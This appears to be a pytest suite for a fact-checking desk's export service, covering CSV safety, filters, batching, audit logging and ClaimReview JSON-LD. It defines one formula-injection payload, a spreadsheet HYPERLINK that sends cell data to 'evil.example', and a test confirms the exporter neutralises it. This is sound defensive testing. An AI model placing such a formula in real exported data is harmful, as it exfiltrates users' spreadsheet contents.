"""Bulk exports: safe CSV, filters, streaming batches, ClaimReview, audit."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime

import pytest
import sqlalchemy as sa

from factcheck.domain.claimreview import Publisher, validate
from factcheck.domain.claims import ClaimStatus
from factcheck.domain.ratings import TruthRating
from factcheck.domain.sources import SourceKind
from factcheck.models.audit import AuditEvent
from factcheck.models.user import User
from factcheck.services.core.errors import PermissionDenied, ValidationFailed
from factcheck.services.exports import formats as exports
from factcheck.services.exports.formats import ExportFormat, ExportSettings
from factcheck.services.exports.query import ExportFilters, iter_rows
from tests.support.schemaorg import expand, terms
from tests.support.verdicts import make_article, publish, published_claim

SETTINGS = ExportSettings(Publisher("Harbour Fact Desk", "https://desk.example"))
EVIL = '=HYPERLINK("https://evil.example/steal?d="&A1,"Port figures")'


def _export(session, user, fmt, filters=None, **options):
    job = exports.start_export(session, user, fmt, filters or ExportFilters(), SETTINGS,
                               end_read=session.rollback, **options)
    session.commit()
    return job, "".join(job.chunks)


@pytest.fixture
def desk(session, editor):
    return session.get(User, editor.id)


def _csv_rows(text):
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_claim_starting_with_a_formula_opens_as_text(session, desk):
    published_claim(session, desk.id, EVIL)
    _, text = _export(session, desk, ExportFormat.CSV)
    (row,) = _csv_rows(text)
    assert row["claim"] == "'" + EVIL
    assert row["rating_label"] == "False"
    assert row["original_source"] == "Port Authority spokesperson"
    assert row["attribution"] == "Reuters › Port Authority spokesperson"


def test_bom_only_when_asked(session, desk):
    published_claim(session, desk.id, "Dockers in Gdańsk struck for nine days")
    _, plain = _export(session, desk, ExportFormat.CSV)
    _, excel = _export(session, desk, ExportFormat.CSV, bom=True)
    assert not plain.startswith("\ufeff") and plain.startswith("claim_id,")
    assert excel.startswith("\ufeffclaim_id,")
    assert "Gdańsk" in excel


def test_filters_by_rating_outlet_source_date_and_status(session, desk):
    harbour = published_claim(session, desk.id, "Cargo fell by half", TruthRating.FALSE)
    published_claim(session, desk.id, "Wages rose 3%", TruthRating.TRUE, outlet="Daily Ledger")
    _, (draft,) = make_article(session, desk.id, ["Ferries ran on time"])
    publish(session, draft, desk.id, TruthRating.HALF_TRUE, published_at=None,
            status=ClaimStatus.APPROVED)
    later = published_claim(session, desk.id, "The strike cost 40m", TruthRating.MISLEADING)
    publish(session, later, desk.id, TruthRating.MISLEADING,
            published_at=datetime(2025, 6, 1, tzinfo=UTC))

    def claims(**filters):
        return [row.claim_text for row in iter_rows(session, ExportFilters(**filters),
                                                          end_read=session.rollback)]

    assert claims() == ["Cargo fell by half", "Wages rose 3%", "The strike cost 40m"]
    assert claims(rating=TruthRating.TRUE) == ["Wages rose 3%"]
    assert claims(outlet="daily ledger") == ["Wages rose 3%"]
    assert claims(date_from=date(2025, 5, 1)) == ["The strike cost 40m"]
    assert claims(date_to=date(2025, 3, 14)) == ["Cargo fell by half", "Wages rose 3%"]
    assert claims(status=ClaimStatus.APPROVED) == ["Ferries ran on time"]
    assert len(claims(status=None)) == 4
    _, text = _export(session, desk, ExportFormat.JSONL,
                      ExportFilters(source_name="reuters", rating=TruthRating.FALSE))
    assert [json.loads(line)["claim_id"] for line in text.splitlines()] == [harbour.id]


def test_unknown_source_is_a_clear_error_and_nothing_is_recorded(session, desk):
    with pytest.raises(ValidationFailed, match="No source called"):
        exports.start_export(session, desk, ExportFormat.CSV,
                             ExportFilters(source_name="Nobody Weekly"), SETTINGS,
                             end_read=session.rollback)
    session.rollback()
    assert session.scalar(sa.select(sa.func.count()).select_from(AuditEvent)
                          .where(AuditEvent.action == "export_created")) == 0


def test_checker_may_not_export(session, checker):
    with pytest.raises(PermissionDenied):
        exports.start_export(session, session.get(User, checker.id), ExportFormat.CSV,
                             ExportFilters(), SETTINGS, end_read=session.rollback)


def test_rows_stream_across_batches_in_claim_order(session, desk):
    texts = [f"Berth {number} reopened" for number in range(7)]
    _, claims = make_article(session, desk.id, texts)
    for claim in claims:
        publish(session, claim, desk.id, TruthRating.TRUE)
    rows = list(iter_rows(session, ExportFilters(), end_read=session.rollback, batch_size=2))
    assert [row.claim_text for row in rows] == texts


def test_current_verdict_wins_and_correction_dates_the_change(session, desk):
    claim = published_claim(session, desk.id, "Cargo fell by half", TruthRating.HALF_TRUE)
    publish(session, claim, desk.id, TruthRating.FALSE,
            published_at=datetime(2025, 4, 2, 8, tzinfo=UTC),
            correction="Customs data arrived and contradicted the port's estimate.")
    (row,) = iter_rows(session, ExportFilters(), end_read=session.rollback)
    assert row.rating is TruthRating.FALSE
    assert row.modified_at == datetime(2025, 4, 2, 8, tzinfo=UTC)


def test_export_is_audited_with_format_filters_and_rows(session, desk):
    published_claim(session, desk.id, "Cargo fell by half")
    job, _ = _export(session, desk, ExportFormat.CSV,
                     ExportFilters(rating=TruthRating.FALSE, outlet="Harbour Post"))
    event = session.scalar(sa.select(AuditEvent).order_by(AuditEvent.seq.desc()).limit(1))
    assert (event.action, event.entity_type, event.actor) == ("export_created", "export",
                                                              desk.email)
    after = json.loads(event.after)
    assert after["format"] == "csv" and after["rows"] == 1 == job.outcome.rows
    assert after["filters"]["rating"] == "false" and after["filters"]["outlet"] == "Harbour Post"


def test_claimreview_validates_and_expands_as_json_ld(session, desk):
    claim = published_claim(session, desk.id, "Cargo fell by half at the port last year")
    _, (unpublished,) = make_article(session, desk.id, ["Ferries ran on time"])
    publish(session, unpublished, desk.id, TruthRating.TRUE, published_at=None,
            status=ClaimStatus.APPROVED)
    job, text = _export(session, desk, ExportFormat.CLAIMREVIEW, ExportFilters(status=None))
    document = json.loads(text)
    (review,) = document["@graph"]
    assert job.outcome.rows == 1 and job.outcome.skipped == []
    assert validate(review).ok
    assert review["url"] == f"https://desk.example/fact-checks/{claim.id}"
    expanded = expand(document)
    (node,) = expanded
    schema = "http://schema.org/"
    assert node["@type"] == [schema + "ClaimReview"]
    assert node[schema + "claimReviewed"] == [
        {"@value": "Cargo fell by half at the port last year"}]
    rating = node[schema + "reviewRating"][0]
    assert rating[schema + "alternateName"] == [{"@value": "False"}]
    assert rating[schema + "ratingValue"] == [{"@value": 1}]
    item = node[schema + "itemReviewed"][0]
    author = item[schema + "author"][0]
    assert author[schema + "name"] == [{"@value": "Port Authority spokesperson"}]
    # Every term used is defined: expansion silently drops unknown ones.
    assert terms(expanded) == terms(review)


def test_narrow_exports_read_through_an_index_and_agree_with_a_full_scan(
        session, desk, monkeypatch):
    from factcheck.services.exports import query as exports_query

    texts = [f"Quay {number} handled {number * 10} ships" for number in range(6)]
    article, claims = make_article(session, desk.id, texts)
    for claim in claims[:5]:
        publish(session, claim, desk.id, TruthRating.TRUE)
    other = published_claim(session, desk.id, "Tolls doubled in March", TruthRating.FALSE)
    # Corrected later: its first verdict falls in the window, its current one does not.
    publish(session, claims[0], desk.id, TruthRating.FALSE,
            published_at=datetime(2025, 9, 1, tzinfo=UTC), correction="New port data.")
    source_id = other.attributions[0].hops[0].source_id
    cases = [ExportFilters(article_id=article.id), ExportFilters(source_id=source_id),
             ExportFilters(date_to=date(2025, 3, 31)),
             ExportFilters(date_from=date(2025, 8, 1), date_to=date(2025, 9, 30))]

    def ids(filters):
        return [row.claim_id for row in iter_rows(session, filters, batch_size=2,
                                                  end_read=session.rollback)]

    narrow = [ids(filters) for filters in cases]
    assert [exports_query.count_rows(session, filters) for filters in cases] == [
        len(found) for found in narrow]
    monkeypatch.setattr(exports_query, "MAX_CANDIDATES", 0)  # always the full scan
    assert narrow == [ids(filters) for filters in cases]
    assert narrow[0] == [claim.id for claim in claims[:5]]
    assert claims[0].id not in narrow[2] and narrow[3] == [claims[0].id]


def test_a_narrow_export_near_the_candidate_cap_loses_no_claim(session, desk, monkeypatch):
    # Each claim cites the same source in three chains and has three
    # verdicts: nine candidate rows per claim, one claim each.
    from factcheck.services.exports import query as exports_query
    from tests.support.verdicts import add_chain

    _, claims = make_article(session, desk.id, [f"Dock {n} closed" for n in range(4)])
    for claim in claims:
        for _ in range(3):
            add_chain(session, claim, [("Harbour Gazette", SourceKind.PUBLICATION)])
        for rating in (TruthRating.TRUE, TruthRating.FALSE, TruthRating.TRUE):
            publish(session, claim, desk.id, rating)
    gazette = claims[0].attributions[0].hops[0].source_id
    wanted = [claim.id for claim in claims]
    monkeypatch.setattr(exports_query, "MAX_CANDIDATES", len(claims))
    for filters in (ExportFilters(source_id=gazette), ExportFilters(date_to=date(2025, 12, 31))):
        assert [row.claim_id for row in iter_rows(session, filters, batch_size=3,
                                                  end_read=session.rollback)] == wanted


def test_packed_chains_unfold_in_order_even_with_odd_names():
    from factcheck.services.exports.chains import unfold_chains

    sep = "\x1f"
    packed = [f"7{sep}publication{sep}Reuters", f"7{sep}anonymous{sep}sources",
              f"9{sep}person{sep}A name{sep}with a separator in it"]
    assert unfold_chains(packed) == [
        [("Reuters", "publication"), ("sources", "anonymous")],
        [("A name" + sep + "with a separator in it", "person")]]
    assert unfold_chains(None) == []
